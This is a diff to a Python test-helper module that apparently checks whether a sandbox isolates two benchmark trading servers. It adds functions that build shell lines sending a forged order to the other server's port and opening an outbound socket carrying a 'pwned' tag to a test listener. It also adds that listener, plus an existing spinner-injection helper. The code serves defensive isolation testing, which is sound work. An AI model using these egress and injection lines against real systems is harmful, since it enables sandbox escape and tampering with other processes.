@@ -5,10 +5,15 @@ head commit's files and the check of the run afterwards."""
 
 from __future__ import annotations
 
+import contextlib
 import hashlib
 import os
+import shlex
 import signal
+import socket
 import subprocess
+import sys
+import threading
 import time
 from pathlib import Path
 
@@ -195,3 +200,72 @@ def spinning_children(tag: str, server: Path = SERVER, iterations: int = 8000) -
         f"#!/bin/sh\nenv HFT_PWN={tag} sh -c '{loop}' spinner $$ </dev/null >/dev/null 2>&1 &\n"
         f'exec {server} "$@"\n'
     )
+
+
+# Issue 61: both servers shared the host's network, so the head's server could send orders to
+# base's port (failing base's cells) or open a connection to any address. Each attack below is
+# shell lines the head's server runs before it starts the real server (as its main() could),
+# saying on stderr whether the connection went through (with Python's error when it did not);
+# what arrives is counted by base's /stats and by the test's own listener (Outside).
+
+ORDER = ('{"buy_sell":"buy","symbol":7,"price":10.00,"quantity":1,"market_type":"common",'
+         '"price_type":"limit","time_in_force":"ioc","order_type":"stock","user_def":"pwned",'
+         '"client_timestamp":"2026-11-22T10:00:00Z"}')  # fmt: skip
+_PY = Path(sys.executable).resolve()  # outside the sandbox's writable paths: it runs inside too
+
+
+def base_port_attack(base_url: str) -> str:
+    """One valid order POSTed to base's server at `base_url` (an attacker finds the port in
+    /proc/net/tcp; this one is told): over a shared loopback it lands in base's /stats, one
+    order base's client never sent, and fails base's cell. Prints "order sent to base", or
+    "order refused"."""
+    send = ("import sys, urllib.request as u; u.urlopen(u.Request(sys.argv[1] + '/order', "
+            "data=sys.argv[2].encode(), headers={'Content-Type': 'application/json'}), "
+            "timeout=3).read()")  # fmt: skip
+    args = " ".join(map(shlex.quote, [str(_PY), "-c", send, base_url, ORDER]))
+    return f"{args} && echo 'order sent to base' >&2 || echo 'order refused' >&2\n"
+
+
+def egress_attack(host: str, port: int, tag: str) -> str:
+    """A connection to `host`:`port` (the test's listener, standing for any address outside)
+    carrying "pwned <tag>". Prints "egress sent", or "egress refused"."""
+    send = ("import socket, sys; s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=3); "
+            "s.sendall(b'pwned ' + sys.argv[3].encode()); s.close()")  # fmt: skip
+    args = " ".join(map(shlex.quote, [str(_PY), "-c", send, host, str(port), tag]))
+    return f"{args} && echo 'egress sent' >&2 || echo 'egress refused' >&2\n"
+
+
+class Outside:
+    """A listener on another loopback port, standing for an address outside the runner: what
+    connects to it and what it sends, read by a thread. A context manager."""
+
+    def __init__(self) -> None:
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self.received: list[bytes] = []
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+
+    def __enter__(self) -> Outside:
+        self._thread.start()
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self._stop.set()
+        self._thread.join()
+        self.sock.close()
+
+    def _serve(self) -> None:
+        while not self._stop.is_set():
+            try:
+                conn, _ = self.sock.accept()
+            except TimeoutError:
+                continue
+            with conn:
+                conn.settimeout(2)
+                data = b""
+                with contextlib.suppress(OSError):
+                    while chunk := conn.recv(4096):
+                        data += chunk
+                self.received.append(data)
